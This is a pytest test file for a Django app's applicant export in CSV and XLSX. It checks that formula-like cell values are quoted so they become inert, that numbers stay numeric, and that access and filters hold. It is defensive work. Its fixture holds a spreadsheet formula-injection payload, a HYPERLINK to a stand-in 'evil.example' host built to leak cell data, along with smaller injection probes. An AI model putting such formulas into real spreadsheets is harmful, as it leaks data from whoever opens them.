"""The applicants export (CSV and XLSX): the rows the user may see, with the SME result, and
cells a spreadsheet would run as formulas made inert."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from companies.resources import escape_formula
from programmes.models import Role
from tests import factories

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def hostile(programme, role_users):
    company = factories.CompanyFactory(
        legal_name=HOSTILE,
        local_name="+7 495 000 00 00",
        latin_name="-2+3",
        contact_name="@SUM(1+1)",
        contact_email="a@hostile.example",
        website="",
        capital=Decimal("15000000000"),
        sales=Decimal("40000000000.50"),
        employees=80,
        growth_rate=Decimal("-3.50"),
    )
    company.business_profile = "\tcmd"
    company.save()
    return factories.ApplicationFactory(
        programme=programme,
        company=company,
        counterpart=role_users["counterpart"].organisation,
        eligible=True,
        size_class="small",
        rule_set_name="vn-decree-80-2021",
        eligibility_reasons=[
            {
                "template": "employees %(value)s ≤ %(limit)s, the %(size_class)s limit (%(group)s)",
                "params": {"value": 80, "limit": 100, "size_class": "small", "group": "industry"},
                "translate": ["size_class", "group"],
            }
        ],
    )


def export(client, programme, kind: str, **query):
    return client.get(
        reverse("companies:application.export", args=[programme.slug]), {"format": kind, **query}
    )


def csv_rows(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def xlsx_rows(response) -> tuple[list[str], list[list]]:
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = [list(row) for row in sheet.iter_rows()]
    return [c.value for c in rows[0]], rows[1:]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+49 30 1234", "'+49 30 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Naniwa Seiko", "Naniwa Seiko"),
        ("", ""),
        (-3.5, -3.5),
        (80, 80),
    ],
)
def test_escape_formula_quotes_text_that_a_spreadsheet_would_run(value, expected):
    assert escape_formula(value) == expected


def test_csv_export_makes_formulas_inert_and_keeps_the_sme_result(client, role_users, hostile):
    client.force_login(role_users["staff"])

    response = export(client, hostile.programme, "csv")

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith(
        f'attachment; filename="{hostile.programme.slug}-applications-'
    )
    (row,) = csv_rows(response)
    assert row["Legal name"] == "'" + HOSTILE
    assert row["Name in its own script"] == "'+7 495 000 00 00"
    assert row["Latin transliteration"] == "'-2+3"
    assert row["Contact person"] == "'@SUM(1+1)"
    assert (row["Paid-in capital"], row["Annual sales"], row["Sales growth (%)"]) == (
        "15000000000",
        "40000000000.5",
        "-3.5",
    )
    assert (row["SME"], row["Size class"], row["SME rule set"]) == (
        "Yes",
        "Small",
        "vn-decree-80-2021",
    )
    assert row["SME reasons"] == "employees 80 ≤ 100, the small limit (industry)"
    assert (row["Status"], row["Counterpart organisation"]) == ("Submitted", "Opora Russia")


def test_xlsx_export_makes_formulas_inert_and_keeps_numbers_as_numbers(client, role_users, hostile):
    client.force_login(role_users["staff"])

    response = export(client, hostile.programme, "xlsx")

    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    headers, rows = xlsx_rows(response)
    (row,) = rows
    cell = dict(zip(headers, row, strict=True))
    assert (cell["Legal name"].value, cell["Legal name"].data_type) == ("'" + HOSTILE, "s")
    assert all(c.data_type != "f" for c in row)  # no cell is a formula
    assert (cell["Contact person"].value, cell["Latin transliteration"].value) == (
        "'@SUM(1+1)",
        "'-2+3",
    )
    assert (cell["Paid-in capital"].value, cell["Paid-in capital"].data_type) == (15000000000, "n")
    assert cell["Sales growth (%)"].value == -3.5
    assert cell["SME"].value == "Yes"


def test_export_follows_the_list_filters(client, role_users, programme, hostile):
    other = factories.ApplicationFactory(programme=programme, status="draft")
    client.force_login(role_users["staff"])

    everything = csv_rows(export(client, programme, "csv"))
    drafts = csv_rows(export(client, programme, "csv", status="draft"))

    assert sorted(r["id"] for r in everything) == sorted([str(hostile.pk), str(other.pk)])
    assert [r["id"] for r in drafts] == [str(other.pk)]


def test_a_counterpart_exports_only_its_own_applicants(client, role_users, programme, hostile):
    rec = factories.OrganisationFactory(name="Russian Export Center", country="RU")
    factories.ProgrammeOrganisationFactory(
        programme=programme, organisation=rec, role=Role.COUNTERPART
    )
    theirs = factories.ApplicationFactory(programme=programme, counterpart=rec)
    client.force_login(role_users["counterpart"])

    rows = csv_rows(export(client, programme, "csv"))

    assert [r["id"] for r in rows] == [str(hostile.pk)]
    assert str(theirs.pk) not in {r["id"] for r in rows}


def test_an_unknown_export_format_is_refused(client, role_users, programme):
    client.force_login(role_users["staff"])

    response = export(client, programme, "pdf")

    assert response.status_code == 400
    assert response.content.decode() == "Choose the format csv or xlsx."
